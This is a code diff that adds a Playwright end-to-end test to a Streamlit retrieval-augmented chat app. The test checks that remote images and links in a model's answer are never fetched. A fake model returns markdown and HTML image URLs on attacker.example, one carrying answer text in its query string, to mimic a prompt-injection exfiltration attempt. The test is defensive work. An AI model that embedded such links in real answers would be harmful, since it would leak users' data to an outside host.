@@ -49,7 +49,7 @@ def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
 
 
 @contextmanager
-def streamlit_app(tmp_path_factory: pytest.TempPathFactory, corpus: Path) -> Iterator[str]:
+def streamlit_app(tmp_path_factory: pytest.TempPathFactory, corpus: Path, **extra_env: str) -> Iterator[str]:
     """`streamlit run app.py` on a fresh data folder whose first start indexes `corpus`; yields its URL."""
     if not CHROMIUM.exists():
         pytest.fail("Debian chromium is missing: `apt-get install -y chromium` (.ci/run does it)")
@@ -60,6 +60,7 @@ def streamlit_app(tmp_path_factory: pytest.TempPathFactory, corpus: Path) -> Ite
         "RAG_DATA_DIR": str(data),
         "RAG_CORPUS_DIR": str(corpus),
         "OLLAMA_HOST": f"http://127.0.0.1:{free_port()}",
+        **extra_env,
     }
     log = (tmp_path_factory.mktemp("log") / "streamlit.log").open("w")
     proc = subprocess.Popen(
@@ -177,5 +178,63 @@ def test_a_question_limited_to_one_document_cites_only_it(
             assert labels and all("allotment.md" in label and "garden.md" not in label for label in labels), labels
             expect(selector).to_contain_text("allotment.md")  # the choice stays for the next question
             page.screenshot(path=str(ARTIFACTS / "chat-one-document.png"), full_page=True)
+        finally:
+            browser.close()
+
+
+@pytest.mark.slow
+def test_a_remote_image_in_an_answer_is_never_fetched(
+    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The model (a fake Ollama that says what it is given) answers with an image on attacker.example, as a
+    planted instruction would make it; the browser sends no request there, while a real one is seen."""
+    from playwright.sync_api import Request, expect, sync_playwright
+
+    from tests import fake_ollama
+
+    monkeypatch.setattr(
+        fake_ollama,
+        "ANSWER_PIECES",
+        ["The tomatoes are watered on Tuesday [1]. ", "![](http://attacker.example/pixel.png?q=tomatoes-tuesday) ",
+         '<img src="http://attacker.example/html.png"> ', "[more](http://attacker.example/link) www.attacker.example"],
+    )
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    (corpus / "garden.md").write_text("# Garden\n\nThe tomatoes in the garden are watered every Tuesday by Ana.\n")
+    ARTIFACTS.mkdir(exist_ok=True)
+    with (
+        fake_ollama.FakeOllama(models=["llama2:latest"]) as ollama,
+        streamlit_app(tmp_path_factory, corpus, RAG_BACKEND="ollama", OLLAMA_HOST=ollama.host) as url,
+        sync_playwright() as p,
+    ):
+        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 1000})
+            requested: list[str] = []
+
+            def seen(request: Request) -> None:
+                requested.append(request.url)
+
+            page.on("request", seen)
+            # Nothing may leave for the attacker's host; were it tried, it is recorded above and stopped here.
+            page.route("**/*attacker.example*", lambda route: route.abort())
+            page.goto(url)
+            box = page.get_by_test_id("stChatInputTextArea")
+            box.wait_for(timeout=120_000)
+            box.fill("When are the tomatoes watered?")
+            box.press("Enter")
+            answer = page.get_by_test_id("stChatMessage").nth(1)
+            expect(answer).to_contain_text("garden.md", timeout=180_000)  # the source, under the finished answer
+            expect(answer).to_contain_text("[image from http://attacker.example/pixel.png?q=tomatoes-tuesday")
+            expect(answer).to_contain_text("more (http://attacker.example/link)")  # the link, as text
+            page.wait_for_timeout(2000)  # time for any image the page holds to be requested
+            assert answer.locator("img").count() == 0
+            assert answer.locator("a[href*='attacker']").count() == 0
+            page.screenshot(path=str(ARTIFACTS / "chat-remote-image.png"), full_page=True)
+            assert not [u for u in requested if "attacker.example" in u], requested
+            # The listener does see a page's requests to that host: the check above can fail.
+            page.evaluate("() => { new Image().src = 'http://attacker.example/control.png' }")
+            page.wait_for_timeout(1000)
+            assert [u for u in requested if "attacker.example" in u] == ["http://attacker.example/control.png"]
         finally:
             browser.close()
